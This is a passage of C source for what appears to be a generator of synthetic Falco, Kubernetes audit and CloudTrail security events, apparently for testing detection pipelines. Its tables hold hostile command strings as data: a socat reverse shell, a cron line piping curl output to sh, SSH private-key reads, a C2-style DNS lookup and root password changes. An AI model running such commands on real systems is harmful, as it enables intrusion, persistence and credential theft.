	  "O_RDONLY|O_DIRECTORY|O_CLOEXEC" },
	{ "python3", "/usr/bin/python3.11", "python3 backup.py --src {file}", "/home/ubuntu/.ssh/id_rsa", "openat",
	  "O_RDONLY|O_CLOEXEC" },
};
static const struct act acts_pkg[] = {
	{ "apt-get", "/usr/bin/apt-get", "apt-get install -y curl netcat-openbsd", NULL, "execve", EXEC_FLAGS },
	{ "apk", "/sbin/apk", "apk add --no-cache nmap socat", NULL, "execve", EXEC_FLAGS },
	{ "pip", "/usr/local/bin/pip", "/usr/local/bin/python3 /usr/local/bin/pip install requests==2.31.0", NULL, "execve",
	  EXEC_FLAGS },
	{ "yum", "/usr/bin/yum", "/usr/bin/python3 /usr/bin/yum install -y tcpdump", NULL, "execve", EXEC_FLAGS },
	{ "apt", "/usr/bin/apt", "apt update", NULL, "execve", EXEC_FLAGS },
	{ "npm", "/usr/local/bin/npm", "npm install -g pm2", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_dev_files[] = {
	{ "touch", "/usr/bin/touch", "touch {file}", "/dev/.hidden" ALT "/dev/shm0" ALT "/dev/.udev-cache", "openat",
	  "O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK" },
	{ "bash", "/usr/bin/bash", "bash -c cp /tmp/x {file}", "/dev/.lib" ALT "/dev/xmr", "openat",
	  "O_WRONLY|O_CREAT|O_TRUNC" },
};
static const struct act acts_setuid[] = {
	{ "event_generator", "/usr/local/bin/event_generator", "event_generator ", NULL, "setuid", NULL },
	{ "python3", "/usr/bin/python3.11", "python3 -c import os; os.setuid(0)", NULL, "setuid", NULL },
	{ "exploit", "/tmp/exploit", "/tmp/exploit", NULL, "setuid", NULL },
};
static const struct act acts_net_tool[] = {
	{ "nmap", "/usr/bin/nmap", "nmap -sS -p- 192.0.2.0/24", NULL, "execve", EXEC_FLAGS },
	{ "tcpdump", "/usr/bin/tcpdump", "tcpdump -i any port 5432 -A", NULL, "execve", EXEC_FLAGS },
	{ "socat", "/usr/bin/socat", "socat TCP:{ext}:443 EXEC:/bin/bash", NULL, "execve", EXEC_FLAGS },
	{ "dig", "/usr/bin/dig", "dig +short TXT c2.example.net", NULL, "execve", EXEC_FLAGS },
	{ "nc", "/bin/busybox", "nc -zv {pod_ip} 1-1000", NULL, "execve", EXEC_FLAGS },
	{ "telnet", "/usr/bin/telnet", "telnet {ext} 23", NULL, "execve", EXEC_FLAGS },
};
static const struct act acts_cron[] = {
	{ "crontab", "/usr/bin/crontab", "crontab -e", NULL, "execve", EXEC_FLAGS },
	{ "crontab", "/usr/bin/crontab", "crontab /tmp/c", NULL, "execve", EXEC_FLAGS },
	{ "bash", "/usr/bin/bash", "bash -c echo '* * * * * root curl -s http://{ext}/p|sh' > {file}", "/etc/cron.d/sysupdate",
	  "openat", "O_WRONLY|O_CREAT|O_TRUNC" },
};
static const struct act acts_shell_cfg[] = {
	{ "python3", "/usr/bin/python3.11", "python3 persist.py", "/root/.bashrc" ALT "/root/.profile", "openat",
	  "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC" },
	{ "sed", "/usr/bin/sed", "sed -i s/^#alias/alias/ {file}", "/home/ubuntu/.bashrc" ALT "/etc/bashrc", "openat",
	  "O_RDWR|O_CREAT|O_EXCL" },
	{ "vim", "/usr/bin/vim.basic", "vim {file}", "/etc/profile" ALT "/root/.zshrc", "openat", "O_WRONLY|O_CREAT|O_TRUNC" },
};
static const struct act acts_user_mgmt[] = {
	{ "useradd", "/usr/sbin/useradd", "useradd -m -s /bin/bash backup", NULL, "execve", EXEC_FLAGS },
	{ "usermod", "/usr/sbin/usermod", "usermod -aG sudo deploy", NULL, "execve", EXEC_FLAGS },
	{ "passwd", "/usr/bin/passwd", "passwd root", NULL, "execve", EXEC_FLAGS },
	{ "chpasswd", "/usr/sbin/chpasswd", "chpasswd", NULL, "execve", EXEC_FLAGS },
};

/* Expands the placeholders of `tpl` (an already picked alternative). */
static const char *expand(struct evctx *e, const char *tpl, size_t n, const char *file)
{
	struct sbuf b = SBUF_INIT;
	for (size_t i = 0; i < n; i++) {
		if (tpl[i] != '{') {
			sbuf_addc(&b, tpl[i]);
			continue;
		}
		const char *close = memchr(tpl + i, '}', n - i);
		size_t klen = close ? (size_t)(close - tpl - i - 1) : 0;
		const char *k = tpl + i + 1;
#define KEY(s) (klen == sizeof(s) - 1 && memcmp(k, s, klen) == 0)
		if (KEY("file") && file)
			sbuf_adds(&b, file);
		else if (KEY("ext") && e->dst)
			sbuf_adds(&b, e->dst);
		else if (KEY("ext"))
			sbuf_printf(&b, "203.0.113.%d", (int)rng_range(e->r, 1, 254));
		else if (KEY("api"))
			sbuf_adds(&b, "198.51.100.1:443");
		else if (KEY("pod_ip"))
			sbuf_adds(&b, e->c ? e->c->pod_ip : "192.0.2.10");
		else if (KEY("rport"))
			sbuf_printf(&b, "%" PRId64, e->rport);
		else if (KEY("n"))
			sbuf_printf(&b, "%d", (int)rng_range(e->r, 7, 99999));
		else if (KEY("home"))
			sbuf_adds(&b, strcmp(e->user, "root") == 0 ? "/root" : "/home");
		else {
			sbuf_addc(&b, '{');
			continue;
		}
#undef KEY
		i += klen + 1;
	}
	return arena_keep(e->ar, b.s ? sbuf_steal(&b) : xstrdup(""));
}

static const char *pick_expand(struct evctx *e, const char *s, const char *file)
{
	if (!s)
		return NULL;
	size_t n;
	const char *p = alt_pick(e->r, s, &n);
	return expand(e, p, n, file);
}

static void set_user_container(struct evctx *e)
{
	const struct workload *w = e->c->w;
	if (rng_pct(e->r, 75)) {
		e->user = "root", e->uid = 0;
	} else {
		e->user = w->user, e->uid = w->uid;
	}
	e->loginuid = -1;
	e->loginname = NULL;
	e->gid = e->uid == 0 ? 0 : e->uid;
	e->group = e->uid == 0 ? "root" : (strcmp(e->user, "<NA>") == 0 ? "<NA>" : e->user);
}

static void set_user_host(struct evctx *e)
{
	size_t k = rng_below(e->r, ARRAY_LEN(host_users));
	bool sudo = rng_pct(e->r, 60);
	e->loginname = host_users[k];
	e->loginuid = host_uids[k];
	e->user = sudo ? "root" : host_users[k];
	e->uid = sudo ? 0 : host_uids[k];
	e->gid = e->uid;
	e->group = sudo ? "root" : host_users[k];
}

enum lineage { LIN_EXEC, LIN_APP, LIN_RUNC };

/* Process ancestry as libsinsp walks it: parent, then ancestors up to the
 * host's init; beyond the chain the values are null. */
static void set_lineage(struct evctx *e, enum lineage lin)
{
	for (int i = 0; i < 8; i++)
		e->aname[i] = NULL;
	if (!e->c) {
		static const char *const shells[] = { "bash", "bash", "zsh", "sh" };
		e->aname[1] = PICK(e->r, shells);
		e->aname[2] = rng_pct(e->r, 60) ? "sudo" : "sshd";
		e->aname[3] = "sshd";
		e->aname[4] = "sshd";
		e->aname[5] = "systemd";
		e->pcmdline = strcmp(e->aname[1], "zsh") == 0 ? "-zsh" : "-bash";
		e->pexepath = exe_of(e->ar, e->aname[1]);
		e->tty = rng_range(e->r, 34816, 34823);
		return;
	}
	switch (lin) {
	case LIN_RUNC: {
		static const char *const ep[] = { "runc", "runc", "containerd-shim", NULL };
		e->aname[1] = PICK(e->r, ep);
		e->aname[2] = e->aname[1] ? "containerd-shim" : NULL;
		e->aname[3] = e->aname[1] ? "systemd" : NULL;
		e->pcmdline = e->aname[1] ? (strcmp(e->aname[1], "runc") == 0 ? "runc init" :
					     "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -address /run/containerd/containerd.sock")
					  : NULL;
		e->pexepath = e->aname[1] ? exe_of(e->ar, e->aname[1]) : NULL;
		e->tty = rng_range(e->r, 34816, 34820);
		return;
	}
	case LIN_APP:
		e->aname[1] = e->c->w->comm;
		e->aname[2] = "containerd-shim";
		e->aname[3] = "systemd";
		e->pcmdline = e->c->w->cmdline;
		e->pexepath = e->c->w->exe;
		e->tty = 0;
		return;
	case LIN_EXEC:
		e->aname[1] = rng_pct(e->r, 70) ? "bash" : "sh";
		e->aname[2] = "runc";
		e->aname[3] = "containerd-shim";
		e->aname[4] = "systemd";
		e->pcmdline = strcmp(e->aname[1], "bash") == 0 ? "bash" : "sh -c clear; (bash || ash || sh)";
		e->pexepath = exe_of(e->ar, e->aname[1]);
		e->tty = rng_pct(e->r, 80) ? rng_range(e->r, 34816, 34820) : 0;
		return;
	}
}

static void apply_act(struct evctx *e, const struct act *a)
{
	const char *file = a->file ? pick_expand(e, a->file, NULL) : NULL;
	e->comm = a->comm;
	e->exepath = a->exepath;
	e->cmdline = pick_expand(e, a->cmdline, file);
	e->fd_name = file;
	e->evt_type = a->evt_type;
	e->flags = pick_expand(e, a->flags, NULL);
}

#define APPLY(e, arr) apply_act((e), &(arr)[rng_below((e)->r, ARRAY_LEN(arr))])

static void set_conn(struct evctx *e, const char *dst_ip, int64_t dport)
{
	int64_t sport = rng_range(e->r, 32768, 60999);
	const char *src = e->c ? e->c->pod_ip : "192.0.2.250";
	e->fd_name = arena_printf(e->ar, "%s:%" PRId64 "->%s:%" PRId64, src, sport, dst_ip, dport);
	e->fd_type = "ipv4";
	e->has_ports = true;
	/* libsinsp reports the server side as lport for client sockets */
	e->lport = dport;
	e->rport = sport;
	e->sip = dst_ip;
}

static const char *ext_ip(struct evctx *e)
{
	return arena_printf(e->ar, "203.0.113.%d", (int)rng_range(e->r, 1, 254));
}

static void scenario_syscall(struct evctx *e, const struct rule *ru)
{
	bool host_ok = strstr(ru->tags, "host") != NULL;
	bool cont_ok = strstr(ru->tags, "container") != NULL;
	bool host = ru->host_only || (host_ok && (!cont_ok || rng_pct(e->r, 15)));
	e->c = host ? NULL : &containers[rng_below(e->r, POOL_CONTAINERS)];
	int node = host ? (int)rng_below(e->r, 40) : e->c->node;
	e->hostname = nodes[node];
	e->fmt = node < PK_NODES ? FMT_PK : FMT_PLAIN;
	if (host)
		set_user_host(e);
	else
		set_user_container(e);
	e->cwd = host ? (e->uid == 0 ? "/root/" : "/home/") : "/";
	e->pid = rng_range(e->r, 300, 4194303);
	set_lineage(e, LIN_EXEC);

	switch (ru->kind) {
	case K_TERMINAL_SHELL:
		set_lineage(e, LIN_RUNC);
		APPLY(e, acts_terminal);
		break;
	case K_READ_SENSITIVE: APPLY(e, acts_read_sensitive); break;
	case K_RUN_SHELL_UNTRUSTED: {
		if (host) {
			e->c = &containers[rng_below(e->r, POOL_CONTAINERS)];
			e->hostname = nodes[e->c->node];
			e->fmt = e->c->node < PK_NODES ? FMT_PK : FMT_PLAIN;
			set_user_container(e);
		}
		set_lineage(e, LIN_APP);
		e->comm = rng_pct(e->r, 80) ? "sh" : "bash";
		e->exepath = strcmp(e->comm, "sh") == 0 ? "/bin/dash" : "/bin/bash";
		const char *cmd = PICK(e->r, untrusted_cmds);
		e->cmdline = arena_printf(e->ar, "%s -c %s", e->comm, expand(e, cmd, strlen(cmd), NULL));
		e->evt_type = "execve";
		e->flags = pick_expand(e, EXEC_FLAGS, NULL);
		break;
	}
	case K_SYSTEM_USER: {
		static const char *const sys_users[] = { "daemon", "bin", "www-data", "nobody", "mail" };
		static const int sys_uids[] = { 1, 2, 33, 65534, 8 };
		size_t k = rng_below(e->r, ARRAY_LEN(sys_users));
		APPLY(e, acts_system_user);
		e->user = sys_users[k];
		e->uid = sys_uids[k];
		break;
	}
	case K_K8S_API:
		if (rng_pct(e->r, 60)) { /* the workload itself (operators, sidecars) */
			set_lineage(e, LIN_APP);
			e->comm = e->c->w->comm;
			e->exepath = e->c->w->exe;
			e->cmdline = e->c->w->cmdline;
			e->aname[1] = "containerd-shim";
			e->aname[2] = "systemd";
			e->aname[3] = NULL;
			e->user = e->c->w->user;
			e->uid = e->c->w->uid;
			e->evt_type = "connect";
			e->flags = NULL;
		} else {
			APPLY(e, acts_k8s_api);
		}
		set_conn(e, "198.51.100.1", 443);
		break;
	case K_SEARCH_KEYS: APPLY(e, acts_search_keys); break;
	case K_CLEAR_LOG: APPLY(e, acts_clear_log); break;
	case K_SYMLINK:
		APPLY(e, acts_symlink);
		e->target = e->fd_name;
		e->linkpath = "/tmp/.s";
		e->fd_name = NULL;
		break;
	case K_PACKET_SOCKET:
		APPLY(e, acts_packet);
		e->evt_args = "domain=17(AF_PACKET) type=3 proto=768 ";
		e->fd_type = NULL;
		break;
	case K_REDIRECT:
		e->dst = ext_ip(e);
		APPLY(e, acts_redirect);
		set_conn(e, e->dst, rng_pct(e->r, 70) ? 4444 : 443);
		break;
	case K_KMOD:
		APPLY(e, acts_kmod);
		e->args = strchr(e->cmdline, ' ') + 1;
		e->res = rng_pct(e->r, 50) ? "SUCCESS" : "EPERM";
		break;
	case K_RELEASE_AGENT:
		APPLY(e, acts_release_agent);
		e->caps = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP "
			  "CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP";
		break;
	case K_PTRACE: APPLY(e, acts_ptrace); break;
	case K_FIND_AWS: APPLY(e, acts_find_aws); break;
	case K_DEV_SHM:
		APPLY(e, acts_dev_shm);
		e->cwd = "/dev/shm/";
		e->res = "SUCCESS";
		break;
	case K_DROP_EXEC: {
		APPLY(e, acts_drop_exec);
		e->exe = e->exepath;
		e->sname = e->aname[1];
		int64_t cstart = e->c ? e->c->start_ts : e->time_ns - 86400000000000LL;
		e->ino_ctime = e->time_ns - rng_range(e->r, 1000000000LL, 600000000000LL);
		e->ino_mtime = e->ino_ctime - rng_range(e->r, 0, 5000000LL);
		e->ino_dur = e->ino_ctime - cstart;
		e->cwd = rng_pct(e->r, 50) ? "/tmp/" : "/";
		break;
	}
	case K_MINER: {
		static const int pool_ports[] = { 3333, 4444, 5555, 7777, 14444, 45700 };
		e->dst = ext_ip(e);
		APPLY(e, acts_miner);
		set_conn(e, e->dst, PICK(e->r, pool_ports));
		break;
	}
	case K_MEMFD:
		APPLY(e, acts_memfd);
		e->sname = e->aname[1];
		e->res = "SUCCESS";
		e->cwd = "/tmp/";
		break;
	case K_SSH_NONSTD: {
		static const int ports[] = { 80, 443, 8080, 53, 4444 };
		int port = PICK(e->r, ports);
		e->rport = port;
		e->dst = ext_ip(e);
		APPLY(e, acts_ssh_nonstd);
		set_conn(e, e->dst, port);
		break;
	}
	case K_NETCAT:
		e->dst = ext_ip(e);
		APPLY(e, acts_netcat);
		break;
	case K_READ_SSH: APPLY(e, acts_read_ssh); break;
	case K_PKG_MGMT: APPLY(e, acts_pkg); break;
	case K_DEV_FILES: APPLY(e, acts_dev_files); break;
	case K_SETUID:
		APPLY(e, acts_setuid);
		e->user = rng_pct(e->r, 50) ? "bin" : "www-data";
		e->uid = e->user[0] == 'b' ? 2 : 33;
		e->arg_uid = "root";
		break;
	case K_NET_TOOL: APPLY(e, acts_net_tool); break;
	case K_CRON: APPLY(e, acts_cron); break;
	case K_SHELL_CFG: APPLY(e, acts_shell_cfg); break;
	case K_PRIV_CONTAINER:
		set_lineage(e, LIN_RUNC);
		e->comm = e->c->w->comm;
		e->exepath = e->c->w->exe;
		e->cmdline = e->c->w->cmdline;
		e->evt_type = "execve";
		e->flags = "EXE_LOWER_LAYER";
		e->tty = 0;
		e->user = e->c->w->user;
		e->uid = e->c->w->uid;
		break;
	case K_USER_MGMT: APPLY(e, acts_user_mgmt); break;
	default:
		break;
	}
}

static const char *uuid4(struct rng *r, struct arena *ar)
{
	uint64_t a = rng_next(r), b = rng_next(r);
	a = (a & ~0xf000ULL) | 0x4000ULL;                       /* version 4 */
	b = (b & ~(3ULL << 62)) | (2ULL << 62);                 /* variant 10 */
	return arena_printf(ar, "%08" PRIx64 "-%04" PRIx64 "-%04" PRIx64 "-%04" PRIx64 "-%012" PRIx64,
			    a >> 32, (a >> 16) & 0xffff, a & 0xffff, b >> 48, b & (uint64_t)0xffffffffffff);
}

/* Kubernetes audit timestamps: RFC 3339 with microseconds. */
static const char *k8s_timestamp(struct arena *ar, int64_t ns)
{
	time_t s = (time_t)(ns / 1000000000);
	struct tm tm;
	gmtime_r(&s, &tm);
	return arena_printf(ar, "%04d-%02d-%02dT%02d:%02d:%02d.%06dZ", tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday,
			    tm.tm_hour, tm.tm_min, tm.tm_sec, (int)(ns % 1000000000 / 1000));
}

/* A compact audit event as the k8saudit plugin hands it to jevt.obj. */
static const char *audit_obj(struct evctx *e)
{
	const char *ts = k8s_timestamp(e->ar, e->time_ns);
	json_t *o = json_object();
	json_object_set_new(o, "kind", json_string("Event"));
	json_object_set_new(o, "apiVersion", json_string("audit.k8s.io/v1"));
	json_object_set_new(o, "level", json_string("Metadata"));
	json_object_set_new(o, "auditID", json_string(uuid4(e->r, e->ar)));
	json_object_set_new(o, "stage", json_string("ResponseComplete"));
	json_object_set_new(o, "requestURI", json_string(e->ka_uri));
	json_object_set_new(o, "verb", json_string(e->ka_verb));
	json_t *u = json_object();
	json_object_set_new(u, "username", json_string(e->ka_user));
	json_object_set_new(u, "groups", json_pack("[ss]", "system:authenticated", "system:masters"));
	json_object_set_new(o, "user", u);
	json_object_set_new(o, "sourceIPs", json_pack("[s]", arena_printf(e->ar, "192.0.2.%d", (int)rng_range(e->r, 2, 254))));
	json_object_set_new(o, "userAgent", json_string("kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819"));
	json_t *ref = json_object();
	json_object_set_new(ref, "resource", json_string(e->ka_resource));
	if (e->ka_ns)
		json_object_set_new(ref, "namespace", json_string(e->ka_ns));
	json_object_set_new(ref, "name", json_string(e->ka_target));
	json_object_set_new(ref, "apiVersion", json_string("v1"));
	json_object_set_new(o, "objectRef", ref);
	json_object_set_new(o, "responseStatus", json_pack("{s:{}s:i}", "metadata", "code", atoi(e->ka_code)));
	json_object_set_new(o, "requestReceivedTimestamp", json_string(ts));
	json_object_set_new(o, "stageTimestamp", json_string(ts));
	char *s = json_dumps(o, JSON_COMPACT);
	json_decref(o);
	return arena_keep(e->ar, s);
}

static const char *const rbac_reasons[] = {
	"",
	"RBAC: allowed by ClusterRoleBinding \"cluster-admin\" of ClusterRole \"cluster-admin\" to Group \"system:masters\"",
	"RBAC: allowed by RoleBinding \"deployer/ci\" of ClusterRole \"edit\" to ServiceAccount \"deployer/ci\"",
};

static void scenario_k8saudit(struct evctx *e, const struct rule *ru)
{
	const struct container *c = &containers[rng_below(e->r, POOL_CONTAINERS)];
	while (c->no_k8s)
		c = &containers[rng_below(e->r, POOL_CONTAINERS)];
	e->hostname = PICK(e->r, k8saudit_hosts);
	e->ka_user = PICK(e->r, k8s_humans);
	e->ka_ns = c->ns;
	e->ka_target = c->pod;
	e->ka_resource = "pods";
	e->ka_verb = "get";
	e->ka_code = "200";
	e->ka_decision = "allow";
	e->ka_reason = PICK(e->r, rbac_reasons);
	e->ka_uri = arena_printf(e->ar, "/api/v1/namespaces/%s/pods/%s", c->ns, c->pod);
	const char *img = c->image ? arena_printf(e->ar, "%s:%s", c->image, c->tag) : c->w->image;
	e->ka_images[0] = img;
	e->ka_nimages = 1;
	switch (ru->kind) {
	case K_KA_EXEC: {
		static const char *const cmds[] = { "sh", "bash", "/bin/sh", "cat", "ls", "env" };
		bool attach = rng_pct(e->r, 10);
		e->ka_sub = attach ? "attach" : "exec";
		e->ka_cmd = attach ? NULL : PICK(e->r, cmds);
		e->ka_verb = "create";
		e->ka_uri = arena_printf(e->ar, "/api/v1/namespaces/%s/pods/%s/%s?command=%s&container=%s&stdin=true&stdout=true&tty=true",
					 c->ns, c->pod, e->ka_sub, e->ka_cmd ? e->ka_cmd : "", c->w->name);
		break;
	}
	case K_KA_DISALLOWED: {
		static const char *const users[] = { "csi-cinder-controller", "dave@example.org", "oidc:mallory",
						     "system-upgrade-controller", "eve@example.com" };
		static const char *const verbs[] = { "get", "list", "patch", "delete", "update" };
		e->ka_user = PICK(e->r, users);
		e->ka_verb = PICK(e->r, verbs);
		if (rng_pct(e->r, 40)) {
			e->ka_resource = "secrets";
			e->ka_target = arena_printf(e->ar, "%s-credentials", c->w->name);
			e->ka_uri = arena_printf(e->ar, "/api/v1/namespaces/%s/secrets/%s", c->ns, e->ka_target);
		} else if (rng_pct(e->r, 50)) {
			e->ka_resource = "deployments";
			e->ka_target = c->w->name;
			e->ka_uri = arena_printf(e->ar, "/apis/apps/v1/namespaces/%s/deployments/%s", c->ns, c->w->name);
		}
		e->ka_code = rng_pct(e->r, 70) ? "200" : "403";
		break;
	}
	case K_KA_POD_PRIV:
	case K_KA_POD_MOUNT:
	case K_KA_POD_HOSTNET:
		e->ka_user = rng_pct(e->r, 70) ? "system:serviceaccount:kube-system:replicaset-controller" : e->ka_user;
		e->ka_verb = "create";
		e->ka_code = "201";
		e->ka_resp_name = c->pod;
		e->ka_target = NULL;
		e->ka_uri = arena_printf(e->ar, "/api/v1/namespaces/%s/pods", c->ns);
		if (rng_pct(e->r, 30)) {
			e->ka_images[1] = "docker.io/istio/proxyv2:1.20.3";
			e->ka_nimages = 2;
		}
		if (ru->kind == K_KA_POD_MOUNT) {
			static const char *const paths[] = { "/var/run/docker.sock", "/", "/etc", "/proc", "/var/lib/kubelet",
							     "/run/containerd/containerd.sock" };
			json_t *vols = json_pack("[{s:{s:s,s:s},s:s},{s:s,s:{s:i,s:[{s:{s:i,s:s}}]}}]",
						 "hostPath", "path", PICK(e->r, paths), "type", "", "name", "host",
						 "name", arena_printf(e->ar, "kube-api-access-%.5s", c->pod + strlen(c->pod) - 5),
						 "projected", "defaultMode", 420, "sources", "serviceAccountToken",
						 "expirationSeconds", 3607, "path", "token");
			e->ka_volumes = arena_keep(e->ar, json_dumps(vols, JSON_COMPACT));
			json_decref(vols);
		}
		break;
	case K_KA_ANON: {
		static const char *const uris[] = { "/api/v1/namespaces/kube-system/secrets", "/apis", "/api/v1/pods",
						    "/version?timeout=32s" };
		e->ka_user = "system:anonymous";
		e->ka_uri = PICK(e->r, uris);
		e->ka_reason = "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole "
			       "\"system:public-info-viewer\" to Group \"system:unauthenticated\"";
		break;
	}
	case K_KA_SA_KUBE:
	case K_KA_SA_CREATED: {
		static const char *const sas[] = { "metrics-reader", "backup-agent", "default", "ci-bot", "node-debugger" };
		e->ka_resource = "serviceaccounts";
		e->ka_target = PICK(e->r, sas);
		if (ru->kind == K_KA_SA_KUBE)
			e->ka_ns = rng_pct(e->r, 80) ? "kube-system" : "kube-public";
		e->ka_verb = "create";
		e->ka_code = "201";
		e->ka_uri = arena_printf(e->ar, "/api/v1/namespaces/%s/serviceaccounts", e->ka_ns);
		break;
	}
	case K_KA_ROLE_WILDCARD:
		e->ka_resource = "clusterroles";
		e->ka_target = rng_pct(e->r, 50) ? "ops-admin" : "tmp-debug";
		e->ka_ns = NULL;
		e->ka_verb = "create";
		e->ka_code = "201";
		e->ka_rules = "[{\"apiGroups\":[\"*\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]}]";
		break;
	case K_KA_DEPLOY_CREATED:
		e->ka_resource = "deployments";
		e->ka_target = c->w->name;
		e->ka_verb = "create";
		e->ka_code = "201";
		e->ka_user = rng_pct(e->r, 60) ? "system:serviceaccount:argocd:argocd-application-controller" : e->ka_user;
		break;
	case K_KA_SECRET_GET:
		e->ka_resource = "secrets";
		e->ka_target = rng_pct(e->r, 50) ? arena_printf(e->ar, "%s-tls", c->w->name) : arena_printf(e->ar, "%s-db", c->w->name);
		break;
	case K_KA_ALL: {
		static const char *const verbs[] = { "get", "list", "watch", "update", "patch" };
		e->ka_verb = PICK(e->r, verbs);
		e->jevt_obj = audit_obj(e);
		break;
	}
	case K_KA_EPHEMERAL: {
		char s[6];
		rand_k8s(e->r, s, 5);
		e->ka_sub = "ephemeralcontainers";
		e->ka_verb = "patch";
		e->ka_eph_name = arena_printf(e->ar, "debugger-%s", s);
		e->ka_eph_image = rng_pct(e->r, 50) ? "busybox:1.36" : "nicolaka/netshoot:v0.12";
		break;
	}
	default:
		break;
	}
}

static void scenario_cloudtrail(struct evctx *e, const struct rule *ru)
{
	e->hostname = PICK(e->r, cloudtrail_hosts);
	e->ct_user = PICK(e->r, aws_users);
	e->ct_srcip = arena_printf(e->ar, "%s.%d", rng_pct(e->r, 70) ? "203.0.113" : "198.51.100",
				   (int)rng_range(e->r, 1, 254));
	e->ct_region = PICK(e->r, aws_regions);
	switch (ru->kind) {
	case K_CT_CREATE_USER:
		e->ct_req_user = arena_printf(e->ar, "svc-%s-%d", rng_pct(e->r, 50) ? "backup" : "export",
					      (int)rng_range(e->r, 1, 9));
		break;
	case K_CT_TRAIL_OFF:
		e->ct_req_name = rng_pct(e->r, 50) ? "org-trail" : "arn:aws:cloudtrail:us-east-1:123456789012:trail/management-events";
		break;
	case K_CT_LAMBDA:
		e->ct_req_func = rng_pct(e->r, 50) ? "billing-export" : "cost-report-nightly";
		break;
	default:
		break;
	}
}

/* ------------------------------------------------------------------------ */
/* Event assembly                                                           */

struct gen {
	const struct opts *o;
	struct rng r;
	struct arena ar;
	uint64_t seq;              /* events produced */
	int64_t last_time;
	uint64_t total_weight;
	struct sbuf msg;           /* formatted rule output */
	struct sbuf line;          /* the serialised event */
	struct sbuf subject;
	struct sbuf tmp;
	/* per event */
	bool hostile, malformed;
	uint64_t n_hostile, n_malformed;
};

/* Falco renders a value in `output` like this; JSON gets the typed value. */
static void val_text(struct sbuf *b, const struct val *v)
{
	switch (v->t) {
	case V_NULL: sbuf_adds(b, "<NA>"); break;
	case V_STR: sbuf_add(b, v->s, v->n); break;
	case V_INT: sbuf_printf(b, "%" PRId64, v->i); break;
	case V_LIST:
		sbuf_addc(b, '(');
		for (size_t i = 0; i < v->nlist; i++) {
			if (i)
				sbuf_addc(b, ',');
			sbuf_adds(b, v->list[i]);
		}
		sbuf_addc(b, ')');
		break;
	}
}

static json_t *val_json(const struct val *v)
{
	switch (v->t) {
	case V_NULL: return json_null();
	case V_INT: return json_integer(v->i);
	case V_STR: {
		json_t *j = json_stringn(v->s, v->n);
		if (!j)
			fatal("value is not valid UTF-8 (a hostile value must use a splice token)");
		return j;
	}
	case V_LIST: {
		json_t *a = json_array();
		for (size_t i = 0; i < v->nlist; i++)
			json_array_append_new(a, json_string(v->list[i]));
		return a;
	}
	}
	return json_null();
}

struct kv {
	const char *key;
	json_t *val;
};

static int cmp_kv(const void *a, const void *b)
{
	return strcmp(((const struct kv *)a)->key, ((const struct kv *)b)->key);
}

/* Formats the rule output into g->msg and returns output_fields with its
 * keys inserted in byte order (Falco >= 0.39 and Go's encoder both sort). */
static json_t *render_fields(struct gen *g, const struct rule *ru, const struct evctx *e)
{
	struct kv kv[MAX_SEGS + 1];
	size_t n = 0;
	sbuf_reset(&g->msg);
	const struct fmt *fm = &ru->fmt[e->fmt];
	for (int i = 0; i < fm->nsegs; i++) {
		const struct seg *s = &fm->segs[i];
		if (s->field < 0) {
			sbuf_add(&g->msg, s->lit, s->litlen);
			continue;
		}
		struct val v = resolve(e, s->field, s->arg);
		val_text(&g->msg, &v);
		bool dup = false;
		for (size_t k = 0; k < n; k++)
			dup |= strcmp(kv[k].key, s->key) == 0;
		if (!dup)
			kv[n++] = (struct kv){ s->key, val_json(&v) };
	}
	struct val t = resolve(e, F_EVT_TIME, NULL);
	kv[n++] = (struct kv){ "evt.time", val_json(&t) };
	qsort(kv, n, sizeof(kv[0]), cmp_kv);
	json_t *o = json_object();
	for (size_t k = 0; k < n; k++)
		json_object_set_new_nocheck(o, kv[k].key, kv[k].val);
	return o;
}

/* Falco's output prefix: local time of day with nanoseconds. */
static void time_prefix(struct sbuf *b, int64_t ns)
{
	time_t s = (time_t)(ns / 1000000000);
	struct tm tm;
	localtime_r(&s, &tm);
	sbuf_printf(b, "%02d:%02d:%02d.%09d", tm.tm_hour, tm.tm_min, tm.tm_sec, (int)(ns % 1000000000));
}

/* RFC 3339 UTC; Falco always writes 9 fraction digits, Go's RFC3339Nano
 * trims trailing zeros (and the dot). */
static const char *time_rfc3339(struct arena *ar, int64_t ns, bool trim)
{
	char frac[16];
	snprintf(frac, sizeof(frac), ".%09d", (int)(ns % 1000000000));
	if (trim) {
		size_t l = strlen(frac);
		while (l > 1 && frac[l - 1] == '0')
			frac[--l] = '\0';
		if (l == 1)
			frac[0] = '\0';
	}
	time_t s = (time_t)(ns / 1000000000);
	struct tm tm;
	gmtime_r(&s, &tm);
	return arena_printf(ar, "%04d-%02d-%02dT%02d:%02d:%02d%sZ", tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday,
			    tm.tm_hour, tm.tm_min, tm.tm_sec, frac);
}

static int dump_cb(const char *buf, size_t size, void *data)
{
	sbuf_add(data, buf, size);
	return 0;
}

/* Escaping as the producers write it: lower-case \u hex (nlohmann, Go); Go's
 * json.Marshal also escapes <, >, & and U+2028/U+2029. Only JSON string
 * contents can hold these bytes, so a textual pass is exact. */
static void restyle_escapes(struct gen *g, bool go_html)
{
	struct sbuf *in = &g->line, *out = &g->tmp;
	char *p = in->s, *end = in->s + in->len;
	while ((p = memchr(p, '\\', (size_t)(end - p))) && end - p >= 2) {
		if (p[1] == 'u' && end - p >= 6)
			for (int k = 2; k < 6; k++)
				if (p[k] >= 'A' && p[k] <= 'F')
					p[k] = (char)(p[k] - 'A' + 'a');
		p += 2; /* skip the escaped char: "\\" is one escape */
	}
	if (!go_html || (!strpbrk(in->s, "<>&") && !memmem(in->s, in->len, "\xe2\x80", 2)))
		return;
	sbuf_reset(out);
	size_t run = 0;
	for (size_t i = 0; i < in->len; i++) {
		unsigned char ch = (unsigned char)in->s[i];
		bool ls = ch == 0xe2 && i + 2 < in->len && (unsigned char)in->s[i + 1] == 0x80 &&
